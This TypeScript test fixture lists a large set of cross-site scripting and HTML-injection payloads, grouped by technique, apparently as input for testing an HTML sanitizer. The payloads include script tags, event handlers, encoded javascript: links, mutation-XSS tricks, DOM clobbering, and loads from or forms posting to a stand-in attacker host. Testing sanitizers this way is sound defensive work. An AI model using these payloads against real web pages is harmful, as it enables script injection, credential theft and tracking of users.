/** Counts, in the top window, how often code of the markup ran. */
export const payload = 'top.ran=(top.ran|0)+1';

/** An attacker's host. It must never get a call. */
export const listener = 'https://listener.invalid';

const script = `javascript:${payload}`;

const entities = (text: string, format: (code: number) => string): string =>
  [...text].map((letter) => format(letter.charCodeAt(0))).join('');
const decimal = (text: string) => entities(text, (code) => `&#${code};`);
const padded = (text: string) => entities(text, (code) => `&#${String(code).padStart(7, '0')}`);
const hex = (text: string) => entities(text, (code) => `&#x${code.toString(16)};`);
const base64 = (text: string) => Buffer.from(text).toString('base64');

const link = (href: string) => `<a href="${href}">press</a>`;
const failing = (attributes: string) => `<img src=x: ${attributes}>`;
const document = `<script>${payload}</script>`;

/** Markup of the known families of attacks. None of it may run code, send a request, open a frame or change the page. */
export const hostileBodies: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    `<script>${payload}</script>`,
    `<ScRiPt>${payload}</sCrIpT>`,
    `<script src="${listener}/x.js"></script>`,
    `<script src="data:text/javascript,${payload}"></script>`,
    `<scr<script>ipt>${payload}</scr</script>ipt>`,
    `<script type="module">${payload}</script>`,
    `<script type="importmap">{"imports":{"react":"${listener}/x.js"}}</script>`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${listener}/"]}]}</script>`,
    `<svg><script>${payload}</script></svg>`,
    `<svg><script href="data:text/javascript,${payload}" /></svg>`,
  ],
  'event handlers': [
    failing(`onerror="${payload}"`),
    failing(`onerror=${payload}//`),
    `<img/src="x:"/onerror="${payload}">`,
    failing(`ONERROR="${payload}"`),
    failing(`o\u0000nerror="${payload}" onerror="${payload}"`),
    failing(`alt="\`onerror=${payload}" \`onerror="${payload}"`),
    failing(`onerror="${hex(payload)}"`),
    failing(`onerror="${padded(payload)}"`),
    `<body onload="${payload}" onpageshow="${payload}" onhashchange="${payload}">text`,
    `<svg onload="${payload}"></svg>`,
    `<svg/onload=${payload}>`,
    `<p style="animation:x 1s" onanimationstart="${payload}" onanimationend="${payload}">text</p>`,
    `<p tabindex=1 autofocus onfocus="${payload}" onfocusin="${payload}">text</p>`,
    `<input autofocus onfocus="${payload}"><select autofocus onfocus="${payload}"></select>`,
    `<details open ontoggle="${payload}"><summary>more</summary>text</details>`,
    `<video onloadstart="${payload}" onerror="${payload}"><source src=x: onerror="${payload}"></video>`,
    `<audio src=x: autoplay onerror="${payload}"></audio>`,
    `<marquee onstart="${payload}" onbounce="${payload}">text</marquee>`,
    `<p onpointerrawupdate="${payload}" onmouseover="${payload}" onclick="${payload}">text</p>`,
    `<xss-element oncontentvisibilityautostatechange="${payload}" style="display:block;content-visibility:auto">x</xss-element>`,
    `<object data=x: onerror="${payload}"></object>`,
    `<iframe onload="${payload}"></iframe>`,
  ],
  'addresses of links': [
    link(script),
    link(`  ${script}`),
    link(script.replace('javascript', 'JaVaScRiPt')),
    link(script.replace('script', 'scr\tipt')),
    link(script.replace('script', 'scr&#10;ipt')),
    link(script.replace(':', '&colon;')),
    link(`&#1;${script}`),
    link(`&#x2028;${script}`),
    link(decimal(script)),
    link(hex(script)),
    link(padded(script)),
    link(`javascript://portal/%0a${payload}`),
    link(`data:text/html,${document}`),
    link(`data:text/html;base64,${base64(document)}`),
    link(`vbscript:msgbox(1)`),
    link(`view-source:${script}`),
    link(`blob:${listener}/0`),
    link('file:///etc/passwd'),
    link(`https://portal.example@listener.invalid/`),
    `<a href="#" ping="${listener}/ping" target="_top" download="x" id="portal-config">press</a>`,
    `<map name="m"><area shape="default" href="${script}"></map><img usemap="#m" src="data:," alt="">`,
    `<a xlink:href="${script}" href="/news">press</a>`,
  ],
  'SVG and MathML': [
    `<svg><a xlink:href="${script}"><text y="20">press</text></a></svg>`,
    `<svg><animate attributeName="href" values="${script}" onbegin="${payload}" /><a id="x"><text>press</text></a></svg>`,
    `<svg><set attributeName="onmouseover" to="${payload}" onbegin="${payload}" /></svg>`,
    `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${payload}'/>#x" /></svg>`,
    `<svg><image href="${listener}/x.svg" onerror="${payload}" /></svg>`,
    `<svg><foreignObject><iframe src="${script}"></iframe></foreignObject></svg>`,
    `<svg><style>@import url(${listener}/x.css)</style></svg>`,
    `<math href="${script}">press</math>`,
    `<math><maction actiontype="statusline#${listener}" xlink:href="${script}">press</maction></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x: onerror="${payload}"></annotation-xml></math>`,
  ],
  'markup that changes when it is read again': [
    `<noscript><p title="</noscript><img src=x: onerror=${payload}>"></noscript>`,
    `<noscript><noscript><style></noscript></noscript><img src=x: onerror=${payload}></style>`,
    `<svg></p><style><a id="</style><img src=x: onerror=${payload}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${payload}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${payload}>`,
    `<svg><title><style><img src=x: onerror=${payload}></style></title></svg>`,
    `<svg><![CDATA[><img src=x: onerror=${payload}>]]></svg>`,
    `<![CDATA[<img src=x: onerror=${payload}>]]>`,
    `<!--><img src=x: onerror=${payload}>-->`,
    `<!-- --!><img src=x: onerror=${payload}> -->`,
    `<?xml version="1.0"?><?php <img src=x: onerror=${payload}> ?>`,
    `<xmp><p title="</xmp><img src=x: onerror=${payload}>"></xmp>`,
    `<textarea><img title="</textarea><img src=x: onerror=${payload}>"></textarea>`,
    `<title><img title="</title><img src=x: onerror=${payload}>"></title>`,
    `<iframe><img title="</iframe><img src=x: onerror=${payload}>"></iframe>`,
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x: onerror=${payload}>">`,
    `<table><tr><td><svg><desc><table><td><style></td></table><img src=x: onerror=${payload}></style>`,
    `${'<div>'.repeat(520)}<svg><style><img src=x: onerror=${payload}></style>`,
    `<p>&lt;img src=x: onerror=${payload}&gt;</p>`,
    `<plaintext><img src=x: onerror=${payload}>`,
  ],
  'templates and shadows': [
    `<template><img src=x: onerror="${payload}"></template>`,
    `<div><template shadowrootmode="open"><img src=x: onerror="${payload}"><slot></slot></template></div>`,
    `<p is="x-y"><slot name="x" onslotchange="${payload}">text</slot></p>`,
  ],
  'frames, forms and whole pages': [
    `<iframe srcdoc="&lt;script&gt;${payload}&lt;/script&gt;"></iframe>`,
    `<iframe src="${script}"></iframe>`,
    `<iframe src="${listener}/"></iframe><frameset><frame src="${script}"></frameset>`,
    `<embed src="${script}"><object data="data:text/html,${document}"></object><applet code="x"></applet>`,
    `<portal src="${listener}/"></portal><fencedframe></fencedframe>`,
    `<meta http-equiv="refresh" content="0;url=${listener}/">`,
    `<meta http-equiv="refresh" content="0;url=data:text/html,${document}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<base href="${listener}/"><a href="x">press</a>`,
    `<form action="${listener}/" id="f"><input name="password"><button formaction="${script}">Sign in</button></form>`,
    `<button form="f" formaction="${script}" type="submit">press</button><isindex action="${script}" type=image>`,
    `<dialog open><form method="dialog"><input name="card"></form></dialog><p popover id="p">text</p>`,
  ],
  'names that pass for the page’s own': [
    '<a id="document"></a><a id="portal-config"></a><a name="top"></a><a id="__proto__"></a>',
    '<form name="body"><input name="attributes"><input name="parentNode"><input name="nodeName"></form>',
    '<img name="getElementById"><img name="cookie"><img name="createElement"><img id="trustedTypes">',
    `<form id="config"><output name="api_base_url">${listener}</output></form><a id="config" name="url" href="${listener}/">x</a>`,
    '<p class="toast" role="alert" aria-live="assertive" data-print="never" slot="x" contenteditable>text</p>',
    '<html lang="xx" dir="rtl"><head><title>Sign in</title></head><body class="x" data-x="y">text',
  ],
  'styles and what they load': [
    `<style>@import "${listener}/x.css"; body { display: none }</style>`,
    `<link rel="stylesheet" href="${listener}/x.css"><link rel="preload" as="script" href="${listener}/x.js"><link rel="dns-prefetch" href="${listener}">`,
    `<p style="position:fixed;inset:0;background:url(${listener}/x.png);z-index:9999">Sign in again</p>`,
    `<p style="width:expression(${payload});behavior:url(#x);-moz-binding:url(${listener}/x.xml#x)">text</p>`,
    `<table background="${listener}/x.png"><tr><td background="${listener}/y.png" style="background:url(${listener}/z.png)">cell</td></tr></table>`,
  ],
  'pictures that are none': [
    `<img src="${listener}/pixel.gif" alt="A pixel">`,
    `<img srcset="${listener}/1.png 1x, ${listener}/2.png 2x" alt="Two">`,
    `<picture><source srcset="${listener}/1.png"><img src="${listener}/2.png" alt="Three"></picture>`,
    `<img src="${script}" dynsrc="${script}" lowsrc="${script}" alt="Script">`,
    `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${payload}'/%3E" alt="Drawing">`,
    `<img src="//listener.invalid/x.png" alt="No scheme">`,
    `<img src="/api/zendesk/tickets" width="99999999" height="-1" loading="eager" fetchpriority="high" alt="A call">`,
    `<video poster="${listener}/x.png" src="${listener}/x.mp4"><track src="${listener}/x.vtt"></video><input type="image" src="${listener}/x.png">`,
  ],
};
